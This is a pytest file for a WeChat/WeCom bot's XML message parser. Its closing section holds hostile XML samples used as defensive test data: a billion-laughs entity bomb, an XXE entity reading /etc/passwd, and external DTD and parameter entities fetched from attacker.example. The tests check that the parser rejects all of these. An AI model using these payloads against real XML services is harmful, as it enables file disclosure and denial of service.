"""bot.wire.messages: every message type into its frozen model, hostile XML into XmlError only."""

from __future__ import annotations

import dataclasses

import pytest

from bot.wire.errors import XmlError
from bot.wire.messages import (
    ClickEvent,
    Event,
    ImageMessage,
    LinkMessage,
    LocationMessage,
    Message,
    ScanEvent,
    SubscribeEvent,
    TextMessage,
    UnknownMessage,
    UnsubscribeEvent,
    VideoMessage,
    ViewEvent,
    VoiceMessage,
    parse_envelope,
    parse_message,
)

HEAD = (
    "<xml><ToUserName><![CDATA[gh_jianfu]]></ToUserName>"
    "<FromUserName><![CDATA[o_clerk]]></FromUserName>"
    "<CreateTime>1700000000</CreateTime>"
)


def msg(body: str) -> bytes:
    return (HEAD + body + "</xml>").encode()


def text(content: str = "请各社区周五前报送台账", msg_id: str = "1234567890123456") -> bytes:
    return msg(
        f"<MsgType><![CDATA[text]]></MsgType><Content><![CDATA[{content}]]></Content><MsgId>{msg_id}</MsgId>"
    )


def event(name: str, extra: str = "") -> bytes:
    return msg(f"<MsgType><![CDATA[event]]></MsgType><Event><![CDATA[{name}]]></Event>{extra}")


# ------------------------------------------------------------------ message types


def test_text_message() -> None:
    message = parse_message(text())
    assert message == TextMessage(
        to_user="gh_jianfu",
        from_user="o_clerk",
        create_time=1700000000,
        msg_type="text",
        content="请各社区周五前报送台账",
        msg_id="1234567890123456",
    )
    assert message.agent_id is None
    assert message.raw["Content"] == "请各社区周五前报送台账"
    assert message.dedupe_key == "msg:1234567890123456"


def test_text_message_without_cdata_and_with_escapes() -> None:
    body = msg("<MsgType>text</MsgType><Content>a &amp; b &lt;c&gt; ]]&gt;</Content><MsgId>7</MsgId>")
    message = parse_message(body)
    assert isinstance(message, TextMessage) and message.content == "a & b <c> ]]>"


def test_empty_text_content_is_empty_string() -> None:
    message = parse_message(text(content=""))
    assert isinstance(message, TextMessage) and message.content == ""


def test_text_keeps_whitespace_and_newlines() -> None:
    message = parse_message(text(content="  第一行\n第二行  "))
    assert isinstance(message, TextMessage) and message.content == "  第一行\n第二行  "


def test_wecom_text_message_carries_agent_id() -> None:
    message = parse_message(
        msg("<MsgType>text</MsgType><Content>hi</Content><MsgId>9</MsgId><AgentID>1000002</AgentID>")
    )
    assert isinstance(message, TextMessage) and message.agent_id == "1000002"


def test_image_message() -> None:
    message = parse_message(
        msg(
            "<MsgType>image</MsgType><PicUrl>http://mmbiz/x.jpg</PicUrl><MediaId>m1</MediaId><MsgId>11</MsgId>"
        )
    )
    assert isinstance(message, ImageMessage)
    assert (message.pic_url, message.media_id, message.msg_id) == ("http://mmbiz/x.jpg", "m1", "11")


def test_voice_message_with_and_without_recognition() -> None:
    plain = parse_message(
        msg("<MsgType>voice</MsgType><MediaId>v1</MediaId><Format>amr</Format><MsgId>12</MsgId>")
    )
    assert isinstance(plain, VoiceMessage)
    assert (plain.media_id, plain.format, plain.recognition) == ("v1", "amr", None)
    recognised = parse_message(
        msg(
            "<MsgType>voice</MsgType><MediaId>v1</MediaId><Format>speex</Format>"
            "<Recognition><![CDATA[报送台账]]></Recognition><MsgId>13</MsgId>"
        )
    )
    assert isinstance(recognised, VoiceMessage) and recognised.recognition == "报送台账"


@pytest.mark.parametrize("kind", ["video", "shortvideo"])
def test_video_and_short_video(kind: str) -> None:
    message = parse_message(
        msg(f"<MsgType>{kind}</MsgType><MediaId>v</MediaId><ThumbMediaId>t</ThumbMediaId><MsgId>14</MsgId>")
    )
    assert isinstance(message, VideoMessage)
    assert (message.msg_type, message.media_id, message.thumb_media_id) == (kind, "v", "t")


def test_location_message() -> None:
    message = parse_message(
        msg(
            "<MsgType>location</MsgType><Location_X>23.134521</Location_X><Location_Y>113.358803</Location_Y>"
            "<Scale>20</Scale><Label><![CDATA[幸福社区居委会]]></Label><MsgId>15</MsgId>"
        )
    )
    assert isinstance(message, LocationMessage)
    assert (message.x, message.y, message.scale, message.label) == (
        23.134521,
        113.358803,
        20,
        "幸福社区居委会",
    )


def test_link_message() -> None:
    message = parse_message(
        msg(
            "<MsgType>link</MsgType><Title>通知</Title><Description>关于报送</Description>"
            "<Url>https://example.org/a?b=1&amp;c=2</Url><MsgId>16</MsgId>"
        )
    )
    assert isinstance(message, LinkMessage)
    assert (message.title, message.description, message.url) == (
        "通知",
        "关于报送",
        "https://example.org/a?b=1&c=2",
    )


def test_subscribe_event_plain_and_from_qr_code() -> None:
    plain = parse_message(event("subscribe", "<EventKey><![CDATA[]]></EventKey>"))
    assert isinstance(plain, SubscribeEvent) and plain.event_key is None and plain.ticket is None
    assert plain.msg_type == "event" and plain.event == "subscribe"
    bare = parse_message(event("subscribe"))
    assert isinstance(bare, SubscribeEvent) and bare.event_key is None
    qr = parse_message(event("subscribe", "<EventKey>qrscene_123</EventKey><Ticket>TICKET</Ticket>"))
    assert isinstance(qr, SubscribeEvent) and (qr.event_key, qr.ticket) == ("qrscene_123", "TICKET")


def test_unsubscribe_event() -> None:
    message = parse_message(event("unsubscribe"))
    assert isinstance(message, UnsubscribeEvent) and isinstance(message, Event)


@pytest.mark.parametrize("name", ["CLICK", "click"])  # the Official Account sends CLICK, WeCom click
def test_click_event(name: str) -> None:
    message = parse_message(event(name, "<EventKey>MY_TASKS</EventKey>"))
    assert isinstance(message, ClickEvent) and message.event_key == "MY_TASKS" and message.event == name


@pytest.mark.parametrize("name", ["VIEW", "view"])
def test_view_event(name: str) -> None:
    message = parse_message(event(name, "<EventKey>https://example.org/</EventKey>"))
    assert isinstance(message, ViewEvent) and message.event_key == "https://example.org/"


def test_scan_event() -> None:
    message = parse_message(event("SCAN", "<EventKey>123</EventKey><Ticket>T</Ticket>"))
    assert isinstance(message, ScanEvent) and (message.event_key, message.ticket) == ("123", "T")


@pytest.mark.parametrize(
    "body",
    [
        msg("<MsgType>miniprogrampage</MsgType><Title>x</Title><MsgId>20</MsgId>"),
        msg("<MsgType>file</MsgType><FileName>a.xlsx</FileName><MsgId>21</MsgId>"),
        msg("<MsgType></MsgType>"),
    ],
)
def test_unknown_message_type_is_unknown_message(body: bytes) -> None:
    message = parse_message(body)
    assert type(message) is UnknownMessage and message.event is None


def test_unknown_message_keeps_every_field_in_raw() -> None:
    message = parse_message(msg("<MsgType>file</MsgType><FileName>a.xlsx</FileName><MsgId>21</MsgId>"))
    assert message.raw["FileName"] == "a.xlsx"
    assert message.dedupe_key == "msg:21"


@pytest.mark.parametrize(
    ("name", "extra"),
    [
        ("LOCATION", "<Latitude>23.1</Latitude><Longitude>113.3</Longitude><Precision>119</Precision>"),
        ("TEMPLATESENDJOBFINISH", "<MsgID>200163836</MsgID><Status>success</Status>"),
        ("enter_agent", "<EventKey></EventKey><AgentID>1000002</AgentID>"),
        (
            "scancode_push",
            "<EventKey>k</EventKey><ScanCodeInfo><ScanType>qrcode</ScanType><ScanResult>1</ScanResult></ScanCodeInfo>",
        ),
    ],
)
def test_unknown_event_is_unknown_message(name: str, extra: str) -> None:
    message = parse_message(event(name, extra))
    assert type(message) is UnknownMessage and message.event == name


def test_nested_fields_appear_under_dotted_keys() -> None:
    message = parse_message(
        event(
            "scancode_push",
            "<ScanCodeInfo><ScanType>qrcode</ScanType><ScanResult>R</ScanResult></ScanCodeInfo>",
        )
    )
    assert message.raw["ScanCodeInfo.ScanType"] == "qrcode"
    assert message.raw["ScanCodeInfo.ScanResult"] == "R"


def test_first_of_repeated_tags_wins() -> None:
    body = msg("<MsgType>text</MsgType><Content>first</Content><Content>second</Content><MsgId>1</MsgId>")
    message = parse_message(body)
    assert isinstance(message, TextMessage) and message.content == "first"


def test_event_dedupe_key_is_sender_time_and_event() -> None:
    assert parse_message(event("subscribe")).dedupe_key == "evt:o_clerk:1700000000:subscribe"
    assert (
        parse_message(event("CLICK", "<EventKey>K</EventKey>")).dedupe_key == "evt:o_clerk:1700000000:CLICK"
    )


def test_template_job_event_dedupes_by_its_msg_id() -> None:
    message = parse_message(event("TEMPLATESENDJOBFINISH", "<MsgID>200163836</MsgID>"))
    assert message.dedupe_key == "msg:200163836"


def test_retries_of_the_same_message_share_a_dedupe_key() -> None:
    assert parse_message(text()).dedupe_key == parse_message(text()).dedupe_key
    assert parse_message(text(msg_id="1")).dedupe_key != parse_message(text(msg_id="2")).dedupe_key


def test_models_are_frozen_and_hashable() -> None:
    message = parse_message(text())
    assert isinstance(message, TextMessage)
    with pytest.raises(dataclasses.FrozenInstanceError):
        message.content = "changed"  # type: ignore[misc]
    with pytest.raises(TypeError):
        message.raw["Content"] = "changed"  # type: ignore[index]
    assert hash(message) == hash(parse_message(text()))
    assert isinstance(message, Message)


def test_create_time_tolerates_surrounding_whitespace() -> None:
    body = b"<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>\n 42 \n</CreateTime><MsgType>event</MsgType><Event>unsubscribe</Event></xml>"
    assert parse_message(body).create_time == 42


def test_utf8_bom_and_xml_declaration_are_accepted() -> None:
    body = b'\xef\xbb\xbf<?xml version="1.0" encoding="UTF-8"?>' + text()
    assert isinstance(parse_message(body), TextMessage)


def test_body_is_utf8_whatever_the_declaration_claims() -> None:
    body = b'<?xml version="1.0" encoding="ISO-8859-1"?>' + text(content="中文")
    message = parse_message(body)
    assert isinstance(message, TextMessage) and message.content == "中文"


def test_parse_envelope_returns_its_fields() -> None:
    fields = parse_envelope(
        b"<xml><ToUserName><![CDATA[ww1]]></ToUserName><Encrypt><![CDATA[abc+/=]]></Encrypt><AgentID>2</AgentID></xml>"
    )
    assert fields == {"ToUserName": "ww1", "Encrypt": "abc+/=", "AgentID": "2"}


# ------------------------------------------------------------------ hostile and broken input

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE xml [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1</CreateTime>
<MsgType>text</MsgType><Content>&lol9;</Content><MsgId>1</MsgId></xml>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1</CreateTime>
<MsgType>text</MsgType><Content>&xxe;</Content><MsgId>1</MsgId></xml>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]>
<xml><ToUserName>a</ToUserName></xml>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd">
<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType></xml>"""

INTERNAL_DTD = b"""<!DOCTYPE xml []>
<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType></xml>"""

HOSTILE = {
    "billion laughs": BILLION_LAUGHS,
    "external entity": EXTERNAL_ENTITY,
    "parameter entity": PARAMETER_ENTITY,
    "external DTD": EXTERNAL_DTD,
    "internal DTD": INTERNAL_DTD,
    "empty": b"",
    "garbage": bytes(range(256)),
    "json": b'{"ToUserName": "a"}',
    "html": b"<html><body><script>alert(1)</script></body></html>",
    "unclosed": b"<xml><ToUserName>a</ToUserName>",
    "two roots": text() + text(),
    "invalid utf-8": msg("<MsgType>text</MsgType><Content>").replace(
        b"</xml>", b"\xc3\x28</Content><MsgId>1</MsgId></xml>"
    ),
    "latin-1 bytes": "<xml><Content>café</Content></xml>".encode("latin-1"),
    "utf-16": text().decode().encode("utf-16"),
    "nul byte": text().replace(b"<MsgId>", b"\x00<MsgId>"),
    "non-xml root": b"<root><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType></root>",
    "namespaced root": b'<x:xml xmlns:x="urn:x"><ToUserName>a</ToUserName></x:xml>',
    "deep nesting": b"<xml>" + b"<a>" * 50_000 + b"</a>" * 50_000 + b"</xml>",
}


@pytest.mark.parametrize("body", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_or_broken_message_is_xml_error_only(body: bytes) -> None:
    with pytest.raises(XmlError) as info:
        parse_message(body)
    assert type(info.value) is XmlError
    assert str(info.value) and "\n" not in str(info.value)


@pytest.mark.parametrize("body", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_or_broken_envelope_is_xml_error_only(body: bytes) -> None:
    with pytest.raises(XmlError) as info:
        parse_envelope(body)
    assert type(info.value) is XmlError


def test_external_entity_is_never_resolved() -> None:
    with pytest.raises(XmlError, match="forbidden") as info:
        parse_message(EXTERNAL_ENTITY)
    assert "root:" not in str(info.value)


@pytest.mark.parametrize("field", ["ToUserName", "FromUserName", "CreateTime", "MsgType"])
def test_missing_common_field_is_xml_error_naming_it(field: str) -> None:
    parts = {
        "ToUserName": "<ToUserName>a</ToUserName>",
        "FromUserName": "<FromUserName>b</FromUserName>",
        "CreateTime": "<CreateTime>1</CreateTime>",
        "MsgType": "<MsgType>text</MsgType>",
    }
    del parts[field]
    body = ("<xml>" + "".join(parts.values()) + "<Content>x</Content><MsgId>1</MsgId></xml>").encode()
    with pytest.raises(XmlError, match=field):
        parse_message(body)


@pytest.mark.parametrize("value", ["", "abc", "1.5", "-1", "1e9", "٣", "9" * 30])
def test_create_time_not_an_integer_is_xml_error(value: str) -> None:
    body = text().replace(
        b"<CreateTime>1700000000</CreateTime>", f"<CreateTime>{value}</CreateTime>".encode()
    )
    with pytest.raises(XmlError, match="CreateTime"):
        parse_message(body)


@pytest.mark.parametrize(
    ("body", "field"),
    [
        (msg("<MsgType>text</MsgType><MsgId>1</MsgId>"), "Content"),
        (msg("<MsgType>text</MsgType><Content>x</Content>"), "MsgId"),
        (msg("<MsgType>image</MsgType><MediaId>m</MediaId><MsgId>1</MsgId>"), "PicUrl"),
        (msg("<MsgType>voice</MsgType><MediaId>m</MediaId><MsgId>1</MsgId>"), "Format"),
        (msg("<MsgType>video</MsgType><MediaId>m</MediaId><MsgId>1</MsgId>"), "ThumbMediaId"),
        (
            msg("<MsgType>location</MsgType><Location_X>1</Location_X><Scale>1</Scale><MsgId>1</MsgId>"),
            "Location_Y",
        ),
        (msg("<MsgType>link</MsgType><Title>t</Title><MsgId>1</MsgId>"), "Url"),
        (msg("<MsgType>event</MsgType>"), "Event"),
        (event("CLICK"), "EventKey"),
        (event("SCAN"), "EventKey"),
    ],
)
def test_known_type_missing_its_field_is_xml_error_naming_it(body: bytes, field: str) -> None:
    with pytest.raises(XmlError, match=field):
        parse_message(body)


@pytest.mark.parametrize(("field", "value"), [("Location_X", "north"), ("Scale", "1.5"), ("Location_Y", "")])
def test_location_with_non_numeric_field_is_xml_error(field: str, value: str) -> None:
    values = {"Location_X": "23.1", "Location_Y": "113.3", "Scale": "20", field: value}
    body = msg(
        "<MsgType>location</MsgType>"
        + "".join(f"<{k}>{v}</{k}>" for k, v in values.items())
        + "<Label>x</Label><MsgId>1</MsgId>"
    )
    with pytest.raises(XmlError, match=field):
        parse_message(body)


def test_str_instead_of_bytes_is_xml_error() -> None:
    with pytest.raises(XmlError, match="bytes"):
        parse_message(text().decode())  # type: ignore[arg-type]


def test_envelope_without_encrypt_is_xml_error() -> None:
    with pytest.raises(XmlError, match="Encrypt"):
        parse_envelope(text())
